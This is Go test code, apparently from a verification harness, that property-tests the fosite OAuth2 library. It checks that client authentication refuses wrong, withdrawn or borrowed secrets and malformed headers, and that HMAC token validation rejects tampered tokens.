		if v == r {
			return true
		}
	}
	return false
}

// legit returns credentials that authenticate c canonically (used for setup
// and for the sufficient direction).
func (c c10Client) legit(w *h.World, jti string) (h.Auth, url.Values) {
	f := url.Values{}
	switch {
	case c.public:
		f.Set("client_id", c.id)
		return h.Auth{}, f
	case c.oidc && c.method == "private_key_jwt":
		f.Set("client_assertion_type", assertionType)
		f.Set("client_assertion", h.MustSignJWT(c.key, c.alg, "kid-1", map[string]interface{}{
			"iss": c.id, "sub": c.id, "aud": h.TokenURL, "jti": jti, "exp": h.Now().Add(300e9).Unix(), "iat": h.Now().Unix(),
		}))
		return h.Auth{}, f
	case c.oidc && c.method == "client_secret_post":
		f.Set("client_id", c.id)
		f.Set("client_secret", c.secret)
		return h.Auth{}, f
	default:
		return h.Auth{BasicUser: c.id, BasicPass: c.secret}, f
	}
}

func (c c10Client) canAuthenticate() bool {
	if c.public {
		return !c.oidc || c.method == "none"
	}
	if !c.oidc {
		return true
	}
	switch c.method {
	case "client_secret_basic", "client_secret_post":
		return true
	case "private_key_jwt":
		return c.key != nil
	}
	return false
}

func TestC10_ClientAuthentication(t *testing.T) {
	h.SetProperty("C10")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		skipAuthJWT := rapid.Bool().Draw(rt, "jwtBearerCanSkipClientAuth")
		w := h.NewWorld(h.Spec{RealBcrypt: true, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.GrantTypeJWTBearerCanSkipClientAuth = skipAuthJWT
		}})
		w.AddUser("peter", "pw")
		// the client under test and a second one whose secret may be "borrowed"
		var c c10Client
		c.id = rapid.SampledFrom(c10IDs).Draw(rt, "clientID")
		c.oidc = rapid.IntRange(0, 3).Draw(rt, "oidc") != 0
		if !c.oidc {
			c.bare = rapid.Bool().Draw(rt, "bareClient")
		}
		if c.oidc {
			c.method = rapid.SampledFrom([]string{"client_secret_basic", "client_secret_basic", "client_secret_post", "client_secret_post", "private_key_jwt", "none", "client_secret_jwt", ""}).Draw(rt, "method")
		}
		c.public = rapid.IntRange(0, 4).Draw(rt, "public") == 0 || (c.oidc && c.method == "none" && rapid.IntRange(0, 3).Draw(rt, "nonePublic") != 0)
		if !c.public || rapid.Bool().Draw(rt, "publicWithSecret") {
			c.secret = rapid.SampledFrom(c10Secrets).Draw(rt, "secret")
			nrot := rapid.IntRange(0, 3).Draw(rt, "nRotated")
			if c.bare {
				nrot = 0
			}
			for i := 0; i < nrot; i++ {
				c.rotated = append(c.rotated, fmt.Sprintf("rotated-%d-%s", i, rapid.SampledFrom([]string{"x", "y%z", "w w"}).Draw(rt, "rot")))
			}
		}
		if c.oidc && c.method == "private_key_jwt" {
			if rapid.Bool().Draw(rt, "ecKey") {
				c.key, c.alg = h.ECKey("P-256"), "ES256"
			} else {
				c.key, c.alg = h.RSAKey(1), "RS256"
			}
		}
		extraKey := false
		if c.oidc && c.method != "private_key_jwt" && rapid.IntRange(0, 2).Draw(rt, "keyRegisteredAnyway") == 0 {
			c.key, c.alg = h.RSAKey(1), "RS256"
			extraKey = true
		}
		c.register(w)
		other := c10Client{id: "other-client", secret: "other-secret-1"}
		other.register(w)

		// ---- another client authenticates correctly as itself and names c in the body of a push: whatever the endpoint
		// makes of it, nothing may be started in c's name on the strength of the other client's credentials
		if !c.public && rapid.IntRange(0, 7).Draw(rt, "otherClientPushesInTheNameOfC") == 0 {
			pr := w.PAR(url.Values{"client_id": {c.id}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}},
				h.Auth{BasicUser: other.id, BasicPass: other.secret})
			h.Label("push-authenticated-as-other-client-naming-c")
			if pr.RequestURI != "" {
				ar := w.Authorize(url.Values{"client_id": {c.id}, "request_uri": {pr.RequestURI}}, h.Consent{})
				if ar.Code != "" || ar.Err.OK() {
					h.Violate(rt, "C10/par/pushed-in-the-name-of-another-client", "client %q authenticated with its own secret and pushed a request with client_id=%q: the request_uri starts an authorization for %q, which never proved its secret", other.id, c.id, c.id)
				}
			}
		}

		// ---- setup material obtained with legitimate credentials (only if c can authenticate at all)
		endpoint := rapid.SampledFrom([]string{"token/client_credentials", "token/client_credentials", "token/authorization_code", "token/refresh_token", "token/password", "token/device_code", "token/jwt_bearer", "revoke", "par", "device_authorization"}).Draw(rt, "endpoint")
		var code, refresh, access, deviceCode string
		jtiN := 0
		nextJTI := func() string {
			jtiN++
			return fmt.Sprintf("jti-%d-%s", jtiN, rapid.StringMatching("[a-z]{8}").Draw(rt, "jti"))
		}
		switch endpoint {
		case "token/authorization_code":
			ar := w.Authorize(url.Values{"client_id": {c.id}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}}, h.Consent{})
			code = ar.Code
			if code == "" {
				rt.Fatalf("VERIF-INFRA: setup authorize failed: %v", ar.Err)
			}
		case "token/refresh_token", "revoke":
			if !c.canAuthenticate() {
				endpoint = "token/client_credentials"
				break
			}
			ar := w.Authorize(url.Values{"client_id": {c.id}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a offline"}}, h.Consent{})
			a, f := c.legit(w, nextJTI())
			f.Set("grant_type", "authorization_code")
			f.Set("code", ar.Code)
			f.Set("redirect_uri", redirectURI)
			tr := w.Token(f, a, h.TokenOpts{})
			if !tr.OK() || tr.Refresh == "" {
				rt.Fatalf("VERIF-INFRA: setup redeem failed: %v %s (client %+v)", tr.Err, tr.Err.Hint, c)
			}
			refresh, access = tr.Refresh, tr.Access
		case "token/device_code":
			if !c.canAuthenticate() {
				endpoint = "token/client_credentials"
				break
			}
			a, f := c.legit(w, nextJTI())
			f.Set("client_id", c.id)
			f.Set("scope", "a")
			dr := w.DeviceAuth(f, a, h.Consent{})
			if dr.DeviceCode == "" {
				rt.Fatalf("VERIF-INFRA: setup device authorization failed: %v %s", dr.Err, dr.Err.Hint)
			}
			w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("u")})
			deviceCode = dr.DeviceCode
		}

		// ---- the presentation under test
		timeDefect := false
		transport := rapid.SampledFrom([]string{"basic", "basic", "basic-raw", "body", "body", "both", "both-no-id", "neither", "id-only", "malformed-header", "assertion", "assertion-other-method"}).Draw(rt, "transport")
		relation := rapid.SampledFrom([]string{"current", "current", "rotated", "wrong", "empty", "other-clients", "other-clients", "withdrawn", "hash-itself", "prefix-of-current", "current-plus-suffix"}).Draw(rt, "relation")
		// history before the presentation under test: the other client may have authenticated successfully with
		// its own secret (it must still not work for c), and c's secret may have been replaced after c used it
		if relation == "other-clients" && rapid.Bool().Draw(rt, "otherClientAuthenticatedBefore") {
			tr := w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}}, h.Auth{BasicUser: other.id, BasicPass: other.secret}, h.TokenOpts{})
			if !tr.OK() {
				rt.Fatalf("VERIF-INFRA: warm-up authentication of the other client failed: %v", tr.Err)
			}
			h.Label("other-client-authenticated-before")
		}
		withdrawnSecret := ""
		if relation == "withdrawn" {
			if c.public || c.secret == "" || !c.canAuthenticate() || (c.oidc && c.method == "private_key_jwt") {
				relation = "wrong"
			} else {
				a, f := c.legit(w, nextJTI())
				f.Set("grant_type", "client_credentials")
				f.Set("scope", "a")
				if tr := w.Token(f, a, h.TokenOpts{}); !tr.OK() {
					rt.Fatalf("VERIF-INFRA: legit authentication before the secret change failed: %v %s", tr.Err, tr.Err.Hint)
				}
				withdrawnSecret = c.secret
				c.secret = "replacement-" + c.secret
				c.rotated = nil
				c.register(w) // the administrator replaces the registration: the old secret is gone
				h.Label("secret-withdrawn-after-use")
			}
		}
		value := ""
		switch relation {
		case "current":
			value = c.secret
		case "rotated":
			if len(c.rotated) > 0 {
				value = c.rotated[rapid.IntRange(0, len(c.rotated)-1).Draw(rt, "whichRotated")]
			} else {
				value = c.secret
				relation = "current"
			}
		case "wrong":
			value = "definitely-wrong"
		case "empty":
			value = ""
		case "withdrawn":
			value = withdrawnSecret
		case "other-clients":
			value = other.secret
		case "hash-itself":
			if c.secret != "" {
				value = string(w.HashSecret(c.secret))
			}
		case "prefix-of-current":
			if len(c.secret) > 2 {
				value = c.secret[:len(c.secret)-1]
			}
		case "current-plus-suffix":
			value = c.secret + "x"
		}
		form := url.Values{}
		auth := h.Auth{}
		carried := map[string]string{} // transport -> value as the server must decode it
		switch transport {
		case "basic":
			auth = h.Auth{BasicUser: c.id, BasicPass: value}
			if value == "" {
				// SetBasicAuth with empty password still sends "id:"
				auth = h.Auth{RawHeader: "Basic " + base64.StdEncoding.EncodeToString([]byte(url.QueryEscape(c.id)+":"))}
			}
			carried["basic"] = value
		case "basic-raw":
			auth = h.Auth{RawHeader: "Basic " + base64.StdEncoding.EncodeToString([]byte(c.id+":"+value))}
			// the server form-decodes both parts; a raw value only "carries" the secret if it survives decoding
			if id, err := url.QueryUnescape(c.id); err == nil && id == c.id && !strings.Contains(c.id, ":") {
				if v, err := url.QueryUnescape(value); err == nil {
					carried["basic"] = v
				}
			}
		case "body":
			form.Set("client_id", c.id)
			form.Set("client_secret", value)
			carried["body"] = value
		case "both":
			auth = h.Auth{BasicUser: c.id, BasicPass: value}
			form.Set("client_id", c.id)
			form.Set("client_secret", rapid.SampledFrom([]string{value, "wrong-in-body", c.secret}).Draw(rt, "bodySecret"))
			carried["basic"] = value
			carried["body"] = form.Get("client_secret")
		case "both-no-id":
			auth = h.Auth{BasicUser: c.id, BasicPass: value}
			form.Set("client_secret", rapid.SampledFrom([]string{"wrong-in-body", c.secret, c.secret}).Draw(rt, "bodySecret"))
			carried["basic"] = value
			carried["body"] = form.Get("client_secret")
		case "neither":
		case "id-only":
			form.Set("client_id", c.id)
		case "malformed-header":
			auth = h.Auth{RawHeader: rapid.SampledFrom([]string{"Basic !!!notbase64", "Basic " + base64.StdEncoding.EncodeToString([]byte("nocolon")), "Bearer " + value, "Basic", "Digest x", "Basic " + base64.StdEncoding.EncodeToString([]byte(":"+value))}).Draw(rt, "header")}
		case "assertion", "assertion-other-method":
			key, alg := c.key, c.alg
			if key == nil || transport == "assertion-other-method" {
				key, alg = h.RSAKey(2), "RS256"
			}
			form.Set("client_assertion_type", assertionType)
			// the assertion itself may be stale, premature or meant for somebody else: then it proves nothing, at any endpoint
			claims := map[string]interface{}{"iss": c.id, "sub": c.id, "aud": h.TokenURL, "jti": nextJTI(), "exp": h.Now().Add(300e9).Unix(), "iat": h.Now().Unix()}
			defect := rapid.SampledFrom([]string{"", "", "", "expired", "not-yet-valid", "other-audience"}).Draw(rt, "assertionDefect")
			switch defect {
			case "expired":
				claims["exp"] = h.Now().Add(-time.Duration(rapid.SampledFrom([]int{5, 90, 86400}).Draw(rt, "expiredFor")) * time.Second).Unix()
				claims["iat"] = h.Now().Add(-2 * 86400 * time.Second).Unix()
			case "not-yet-valid":
				claims["nbf"] = h.Now().Add(600 * time.Second).Unix()
			case "other-audience":
				claims["aud"] = "https://other-as.example/token"
			}
			if defect != "" {
				h.Label("assertion-defect=" + defect)
			}
			// stale / premature assertions are refused with the JWT library's own error value, not an RFC 6749 error: the
			// statement's list of presentations answered invalid_client / invalid_request does not name them (C15 owns
			// assertion validity), so only "not processed, nothing changed" is asserted for them
			timeDefect = defect == "expired" || defect == "not-yet-valid"
			if rapid.Bool().Draw(rt, "clientIDNextToAssertion") {
				form.Set("client_id", c.id)
			}
			form.Set("client_assertion", h.MustSignJWT(key, alg, "kid-1", claims))
			if c.key != nil && transport == "assertion" && defect == "" {
				carried["assertion"] = "valid"
				if extraKey {
					h.Label("assertion-by-registered-key-for-non-jwt-method")
				}
			}
		}
		// ---- reference: may this request be processed in the name of c ?
		permitted := func(tr string) bool {
			if c.public {
				return false
			}
			if !c.oidc {
				return tr == "basic" || tr == "body"
			}
			switch c.method {
			case "client_secret_basic":
				return tr == "basic"
			case "client_secret_post":
				return tr == "body"
			case "private_key_jwt":
				return tr == "assertion"
			}
			return false
		}
		proven := false
		for tr, v := range carried {
			if !permitted(tr) {
				continue
			}
			if tr == "assertion" {
				proven = true
			} else if c.validSecret(v) {
				proven = true
			}
		}
		canonical := (transport == "basic" || transport == "body" || transport == "assertion") && proven && (relation == "current" || relation == "rotated" || transport == "assertion")

		// ---- the request itself (otherwise valid); now and then its context has already ended when it arrives (the caller
		// went away, a per-request deadline passed): that may fail the request, it proves nothing about any secret
		ctxEnded := rapid.IntRange(0, 5).Draw(rt, "requestContextAlreadyEnded") == 0
		if ctxEnded {
			kind := rapid.SampledFrom([]string{"cancelled", "deadline-passed"}).Draw(rt, "contextEndedBy")
			w.BaseCtx = func() context.Context {
				if kind == "cancelled" {
					ctx, cancel := context.WithCancel(context.Background())
					cancel()
					return ctx
				}
				ctx, cancel := context.WithDeadline(context.Background(), time.Unix(1, 0))
				_ = cancel
				return ctx
			}
			h.Label("request-context-already-ended")
		}
		var errInfo h.ErrInfo
		var issued bool
		w.ResetCalls()
		w.Record = true
		switch endpoint {
		case "token/client_credentials":
			form.Set("grant_type", "client_credentials")
			form.Set("scope", "a")
			tr := w.Token(form, auth, h.TokenOpts{})
			errInfo, issued = tr.Err, tr.Access != ""
		case "token/authorization_code":
			form.Set("grant_type", "authorization_code")
			form.Set("code", code)
			form.Set("redirect_uri", redirectURI)
			tr := w.Token(form, auth, h.TokenOpts{})
			errInfo, issued = tr.Err, tr.Access != ""
		case "token/refresh_token":
			form.Set("grant_type", "refresh_token")
			form.Set("refresh_token", refresh)
			tr := w.Token(form, auth, h.TokenOpts{})
			errInfo, issued = tr.Err, tr.Access != ""
		case "token/password":
			form.Set("grant_type", "password")
			form.Set("username", "peter")
			form.Set("password", "pw")
			form.Set("scope", "a")
			tr := w.Token(form, auth, h.TokenOpts{})
			errInfo, issued = tr.Err, tr.Access != ""
		case "token/device_code":
			form.Set("grant_type", deviceGrant)
			form.Set("device_code", deviceCode)
			tr := w.Token(form, auth, h.TokenOpts{})
			errInfo, issued = tr.Err, tr.Access != ""
		case "token/jwt_bearer":
			form.Set("grant_type", jwtBearerGrant)
			form.Set("assertion", "not-a-jwt")
			if skipAuthJWT {
				// a valid assertion: the grant itself succeeds; what matters is in whose name
				w.Mem.IssuerPublicKeys["iss-1"] = storage.IssuerPublicKeys{Issuer: "iss-1", KeysBySub: map[string]storage.SubjectPublicKeys{
					"sub-1": {Subject: "sub-1", Keys: map[string]storage.PublicKeyScopes{"k1": {Key: jwkPtr(h.PublicJWK(h.RSAKey(0), "k1", "RS256")), Scopes: []string{"a"}}}}}}
				now := h.Now()
				form.Set("assertion", h.MustSignJWT(h.RSAKey(0), "RS256", "k1", map[string]interface{}{"iss": "iss-1", "sub": "sub-1", "aud": []string{h.TokenURL}, "exp": now.Add(300e9).Unix(), "iat": now.Unix(), "jti": nextJTI()}))
				form.Set("scope", "a")
			}
			tr := w.Token(form, auth, h.TokenOpts{Session: h.NewSess("")})
			errInfo, issued = tr.Err, tr.Access != ""
			if skipAuthJWT && tr.Access != "" && !proven && !c.public {
				if d := w.IntrospectDirect(tr.Access, fosite.AccessToken); d.Active && d.ClientID == c.id {
					h.Violate(rt, "C10/skip-auth-request-processed-in-clients-name", "a JWT-bearer request whose client authentication failed (handler allows skipping it) was processed in the name of confidential client %q: the token carries its client_id", c.id)
				}
				h.Label("jwt-bearer-anonymous-after-failed-client-auth")
			}
		case "revoke":
			form.Set("token", access)
			r := w.Revoke(form, auth)
			errInfo = r.Err
		case "par":
			form.Set("response_type", "code")
			form.Set("state", "state-0123456789")
			form.Set("redirect_uri", redirectURI)
			form.Set("scope", "a")
			if form.Get("client_id") == "" && rapid.Bool().Draw(rt, "parClientID") {
				form.Set("client_id", c.id)
			}
			r := w.PAR(form, auth)
			errInfo, issued = r.Err, r.RequestURI != ""
		case "device_authorization":
			if form.Get("client_id") == "" {
				form.Set("client_id", c.id)
				if transport == "neither" {
					transport = "id-only"
				}
			}
			form.Set("scope", "a")
			r := w.DeviceAuth(form, auth, h.Consent{})
			errInfo, issued = r.Err, r.DeviceCode != ""
		}
		w.Record = false
		w.BaseCtx = nil
		identifiedPublic := c.public && (form.Get("client_id") == c.id || transport == "basic" || transport == "basic-raw" || transport == "both" || transport == "both-no-id" || transport == "assertion" || transport == "assertion-other-method")
		var writes []string
		for _, call := range w.Calls {
			if call.Write && call.Method != "SetClientAssertionJWT" && call.Method != "MarkJWTUsedForTime" {
				writes = append(writes, call.Method)
			}
		}
		authPassed := errInfo.OK() || !(errInfo.Name == "invalid_client" || errInfo.Name == "invalid_request")
		if endpoint == "token/jwt_bearer" {
			// the assertion is garbage: the request always fails; what matters is *where*
			authPassed = errInfo.Name == "invalid_grant"
		}
		desc := fmt.Sprintf("client{id=%q oidc=%v method=%q public=%v rotated=%d} endpoint=%s transport=%s relation=%s -> %v (storage writes %v)", c.id, c.oidc, c.method, c.public, len(c.rotated), endpoint, transport, relation, errInfo, writes)
		rt.Logf("%s", desc)
		reached := !c.public
		h.Case(fmt.Sprintf("C10/%v/%s/%v/%s/%s/%s/%d", c.oidc, c.method, c.public, endpoint, transport, relation, len(c.rotated)), reached, func() any {
			return map[string]any{"client_oidc": c.oidc, "method": c.method, "public": c.public, "endpoint": endpoint, "transport": transport, "secret_relation": relation, "proven": proven, "result": errInfo.String()}
		})
		h.Label("endpoint=" + endpoint)
		h.Label("transport=" + transport)
		h.Label("relation=" + relation)
		if proven {
			h.Label("proven")
		}
		if timeDefect {
			h.Label("stale-or-premature-assertion@" + endpoint)
		}

		if c.public {
			// identified without a secret, but never client_credentials
			if endpoint == "token/client_credentials" && (issued || errInfo.OK()) {
				h.Violate(rt, "C10/public-client-credentials", "public client obtained tokens through client_credentials: %s", desc)
			}
			if !identifiedPublic && !(endpoint == "token/jwt_bearer" && skipAuthJWT) && (issued || (errInfo.OK() && endpoint != "token/jwt_bearer")) {
				h.Violate(rt, "C10/anonymous-request-processed", "request without any client identification was processed: %s", desc)
			}
			return
		}
		if endpoint == "token/jwt_bearer" && skipAuthJWT {
			// the handler explicitly allows requests without client authentication
			return
		}
		if !proven {
			if issued || errInfo.OK() {
				h.Violate(rt, "C10/unproven-request-processed", "request processed in the name of a confidential client without proof of a valid secret / assertion through a permitted transport: %s", desc)
			} else if authPassed && !timeDefect && !ctxEnded {
				h.Violate(rt, "C10/unproven-request-passed-authentication", "client authentication let an unproven request through (answered %v, not invalid_client / invalid_request): %s", errInfo, desc)
			}
			if len(writes) > 0 {
				h.Violate(rt, "C10/unproven-request-changed-tokens", "rejected request modified code/token records %v: %s", writes, desc)
			}
			if endpoint == "par" && !errInfo.OK() && errInfo.Name != "invalid_client" && !timeDefect && !ctxEnded {
				h.Violate(rt, "C10/par-wrong-error-class", "PAR authentication failure answered %v, want invalid_client: %s", errInfo, desc)
			}
			// the target of a rejected revocation / refresh is untouched
			if endpoint == "revoke" && !w.IntrospectDirect(access, fosite.AccessToken).Active {
				h.Violate(rt, "C10/rejected-revocation-invalidated-token", "rejected revocation invalidated the token: %s", desc)
			}
			if endpoint == "token/refresh_token" && !w.IntrospectDirect(refresh, fosite.RefreshToken).Active {
				h.Violate(rt, "C10/rejected-refresh-invalidated-token", "rejected refresh invalidated the token: %s", desc)
			}
			return
		}
		if canonical && transport != "both" && !ctxEnded {
			if !authPassed {
				h.Violate(rt, "C10/valid-credentials-refused", "valid credentials through a permitted transport were refused: %s %s", desc, errInfo.Hint)
			}
		}
	})
	h.MarkCompleted()
}
