package props

import (
	"bytes"
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"hash"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/ory/fosite"
	"github.com/ory/fosite/compose"
	foauth2 "github.com/ory/fosite/handler/oauth2"
	fhmac "github.com/ory/fosite/token/hmac"
	"github.com/ory/fosite/token/jwt"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C06 — only server-minted, untampered tokens are accepted (HMAC and JWT).

type hmacCfg struct {
	global  []byte
	rotated [][]byte
	hasher  string
	entropy int
}

func hasherOf(name string) func() hash.Hash {
	switch name {
	case "sha256":
		return sha256.New
	case "sha512":
		return sha512.New
	}
	return nil
}

func (c hmacCfg) config() *fosite.Config {
	return &fosite.Config{GlobalSecret: c.global, RotatedGlobalSecrets: c.rotated, HMACHasher: hasherOf(c.hasher), TokenEntropy: c.entropy}
}

func refMAC(hasher string, secret, data []byte) []byte {
	hf := hasherOf(hasher)
	if hf == nil {
		hf = sha512.New512_256
	}
	var key [32]byte
	copy(key[:], secret)
	m := hmac.New(hf, key[:])
	m.Write(data)
	return m.Sum(nil)
}

// refHMACValid: the token's random part authenticates against its signature
// part under the current or a rotated secret (>= 32 bytes; the first 32 bytes
// are the key). Unspecified when a valid match exists but a too-short secret is
// also configured (whether the error or the match wins depends on list order).
func refHMACValid(c hmacCfg, token string) h.Tri {
	var secrets [][]byte
	if len(c.global) > 0 {
		secrets = append(secrets, c.global)
	}
	secrets = append(secrets, c.rotated...)
	if len(secrets) == 0 {
		return h.No
	}
	k, s, ok := strings.Cut(token, ".")
	if !ok || k == "" || s == "" {
		return h.No
	}
	dk, err := base64.RawURLEncoding.DecodeString(k)
	if err != nil {
		return h.No
	}
	ds, err := base64.RawURLEncoding.DecodeString(s)
	if err != nil {
		return h.No
	}
	anyShort, match := false, false
	for _, sec := range secrets {
		if len(sec) < 32 {
			anyShort = true
			continue
		}
		if hmac.Equal(refMAC(c.hasher, sec, dk), ds) {
			match = true
		}
	}
	if !match {
		return h.No
	}
	if anyShort {
		return h.Unspecified
	}
	return h.Yes
}

// junkGen: text that is not base64url (or leaves a dangling character), optionally followed by more characters.
var junkGen = rapid.Custom(func(t *rapid.T) string {
	return rapid.SampledFrom([]string{"!", "*", "%", " ", "=", "~", "+", "/", "\x00", "é", "A"}).Draw(t, "junkChar") +
		rapid.SampledFrom([]string{"", "", "A", "AAAA", "xyz"}).Draw(t, "junkTail")
})

func secretGen(label string) *rapid.Generator[[]byte] {
	return rapid.Custom(func(t *rapid.T) []byte {
		n := rapid.SampledFrom([]int{32, 32, 32, 33, 48, 64, 40}).Draw(t, label+"-len")
		return rapid.SliceOfN(rapid.Byte(), n, n).Draw(t, label)
	})
}

func TestC06_HMACLayer(t *testing.T) {
	h.SetProperty("C06")
	selfTest(t)
	ctx := context.Background()
	rapid.Check(t, func(rt *rapid.T) {
		var c hmacCfg
		c.hasher = rapid.SampledFrom([]string{"", "", "sha256", "sha512"}).Draw(rt, "hasher")
		c.entropy = rapid.SampledFrom([]int{0, 0, 16, 32, 33, 48, 64, 96}).Draw(rt, "entropy")
		c.global = secretGen("global").Draw(rt, "globalSecret")
		nrot := rapid.IntRange(0, 3).Draw(rt, "nRotated")
		for i := 0; i < nrot; i++ {
			c.rotated = append(c.rotated, secretGen("rot").Draw(rt, "rotatedSecret"))
		}
		// optional short secret somewhere in the configuration
		shortAt := rapid.IntRange(-1, nrot+4).Draw(rt, "shortAt") // -1: global is short; 0..nrot-1: that rotated one; else none
		var short []byte
		if shortAt == -1 {
			short = rapid.SliceOfN(rapid.Byte(), 0, 31).Draw(rt, "shortGlobal")
			c.global = short
		} else if shortAt < nrot {
			short = rapid.SliceOfN(rapid.Byte(), 0, 31).Draw(rt, "shortRotated")
			c.rotated[shortAt] = short
		}
		onlyEmpty := false
		if rapid.IntRange(0, 9).Draw(rt, "onlyEmptySecrets") == 0 {
			// an instance whose secrets are all unset / empty must not accept anything
			c.global = nil
			c.rotated = nil
			for i, n := 0, rapid.IntRange(0, 3).Draw(rt, "nEmptyRotated"); i < n; i++ {
				if rapid.Bool().Draw(rt, "nilEntry") {
					c.rotated = append(c.rotated, nil)
				} else {
					c.rotated = append(c.rotated, []byte{})
				}
			}
			nrot = len(c.rotated)
			short, shortAt = []byte{}, -1
			onlyEmpty = true
		}
		// which secret mints
		rel := rapid.SampledFrom([]string{"current", "current", "rotated", "foreign", "same-first-32", "short-padded"}).Draw(rt, "mintedUnder")
		if onlyEmpty {
			rel = rapid.SampledFrom([]string{"foreign", "short-padded"}).Draw(rt, "mintedUnderForEmptyConfig")
		}
		var mintSecret []byte
		switch rel {
		case "current":
			mintSecret = c.global
		case "rotated":
			if len(c.rotated) == 0 {
				mintSecret = c.global
				rel = "current"
			} else {
				mintSecret = c.rotated[rapid.IntRange(0, len(c.rotated)-1).Draw(rt, "whichRotated")]
			}
		case "foreign":
			mintSecret = secretGen("foreign").Draw(rt, "foreignSecret")
		case "same-first-32":
			base := c.global
			if len(base) < 32 {
				rel = "foreign"
				mintSecret = secretGen("foreign").Draw(rt, "foreignSecret")
			} else {
				mintSecret = append(append([]byte{}, base[:32]...), []byte("different-tail")...)
			}
		case "short-padded":
			if short == nil {
				rel = "current"
				mintSecret = c.global
			} else {
				mintSecret = make([]byte, 32)
				copy(mintSecret, short)
			}
		}
		mintCfg := hmacCfg{global: mintSecret, hasher: c.hasher, entropy: c.entropy}
		minter := &fhmac.HMACStrategy{Config: mintCfg.config()}
		tok, sig, err := minter.Generate(ctx)
		if len(mintSecret) < 32 {
			if err == nil {
				h.Violate(rt, "C06/hmac/short-secret-mints", "Generate succeeded with a %d-byte secret", len(mintSecret))
			}
			h.Case("hmac/short-mint", true, nil)
			return
		}
		if err != nil {
			rt.Fatalf("VERIF-INFRA: Generate with a %d byte secret failed: %v", len(mintSecret), err)
		}
		// minting facts: random part has max(32, entropy) bytes
		kpart, spart, _ := strings.Cut(tok, ".")
		dk, _ := base64.RawURLEncoding.DecodeString(kpart)
		wantLen := c.entropy
		if wantLen < 32 {
			wantLen = 32
		}
		if len(dk) != wantLen {
			h.Violate(rt, "C06/mint/entropy", "token random part has %d bytes, configured entropy %d (minimum 32)", len(dk), c.entropy)
		}
		if spart != sig {
			h.Violate(rt, "C06/mint/signature-mismatch", "Generate returned signature %q but token carries %q", sig, spart)
		}
		tok2, _, _ := minter.Generate(ctx)
		k2, s2, _ := strings.Cut(tok2, ".")

		// one named edit
		edit := rapid.SampledFrom([]string{"none", "none", "flip-key-bit", "flip-sig-bit", "truncate-sig", "truncate-key", "extend-sig", "extend-key", "swap-sig", "swap-key", "no-dot", "extra-dot", "empty-key", "empty-sig", "padding", "newline", "reencode-key-trailing-bits", "std-alphabet", "junk-after-key", "junk-after-sig", "junk-inside-key"}).Draw(rt, "edit")
		mut := tok
		ds, _ := base64.RawURLEncoding.DecodeString(spart)
		enc := base64.RawURLEncoding.EncodeToString
		switch edit {
		case "flip-key-bit":
			b := append([]byte{}, dk...)
			i := rapid.IntRange(0, len(b)*8-1).Draw(rt, "bit")
			b[i/8] ^= 1 << (i % 8)
			mut = enc(b) + "." + spart
		case "flip-sig-bit":
			b := append([]byte{}, ds...)
			i := rapid.IntRange(0, len(b)*8-1).Draw(rt, "bit")
			b[i/8] ^= 1 << (i % 8)
			mut = kpart + "." + enc(b)
		case "truncate-sig":
			n := rapid.IntRange(0, len(ds)-1).Draw(rt, "keep")
			mut = kpart + "." + enc(ds[:n])
		case "truncate-key":
			n := rapid.IntRange(0, len(dk)-1).Draw(rt, "keep")
			mut = enc(dk[:n]) + "." + spart
		case "extend-sig":
			mut = kpart + "." + enc(append(append([]byte{}, ds...), 0))
		case "extend-key":
			mut = enc(append(append([]byte{}, dk...), 0)) + "." + spart
		case "swap-sig":
			mut = kpart + "." + s2
		case "swap-key":
			mut = k2 + "." + spart
		case "no-dot":
			mut = kpart + spart
		case "extra-dot":
			mut = kpart + "." + spart + "." + spart
		case "empty-key":
			mut = "." + spart
		case "empty-sig":
			mut = kpart + "."
		case "padding":
			mut = kpart + "=." + spart + "="
		case "newline":
			mut = kpart[:5] + "\n" + kpart[5:] + "." + spart
		case "reencode-key-trailing-bits":
			// change the unused trailing bits of the last character of the key part
			const alpha = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
			last := strings.IndexByte(alpha, kpart[len(kpart)-1])
			if len(dk)%3 != 0 && last >= 0 {
				mut = kpart[:len(kpart)-1] + string(alpha[last^1]) + "." + spart
			}
		case "std-alphabet":
			mut = strings.NewReplacer("-", "+", "_", "/").Replace(tok)
		case "junk-after-key":
			// characters a lenient decoder stops at: everything before them still decodes to the minted bytes
			mut = kpart + junkGen.Draw(rt, "junk") + "." + spart
		case "junk-after-sig":
			mut = kpart + "." + spart + junkGen.Draw(rt, "junk")
		case "junk-inside-key":
			i := rapid.IntRange(1, len(kpart)-1).Draw(rt, "at")
			mut = kpart[:i] + junkGen.Draw(rt, "junk") + kpart[i:] + "." + spart
		}
		validator := &fhmac.HMACStrategy{Config: c.config()}
		got := validator.Validate(ctx, mut)
		want := refHMACValid(c, mut)
		nontrivial := edit != "none" || rel != "current" || short != nil
		h.Case(fmt.Sprintf("hmac/%s/%s/%s/%d/%d/short=%d", edit, rel, c.hasher, c.entropy, nrot, shortAt), nontrivial, func() any {
			return map[string]any{"layer": "hmac", "edit": edit, "minted_under": rel, "hasher": c.hasher, "entropy": c.entropy, "rotated": nrot, "short_secret_at": shortAt, "reference": want.String(), "accepted": got == nil}
		})
		h.Label("hmac/edit=" + edit)
		h.Label("hmac/minted=" + rel)
		if want == h.Unspecified {
			h.Label("hmac/unspecified")
			return
		}
		if (got == nil) != (want == h.Yes) {
			fp := "C06/hmac/accepts-invalid"
			if want == h.Yes {
				fp = "C06/hmac/rejects-valid"
			}
			h.Violate(rt, fp, "HMAC validation: edit=%s minted under %s secret (hasher %q, %d rotated, short secret at %d): implementation err=%v, reference says valid=%v\n token=%q", edit, rel, c.hasher, nrot, shortAt, got, want, mut)
		}
		// the signature accessor must name the signature part of well-formed tokens
		if edit == "none" && validator.Signature(tok) != spart {
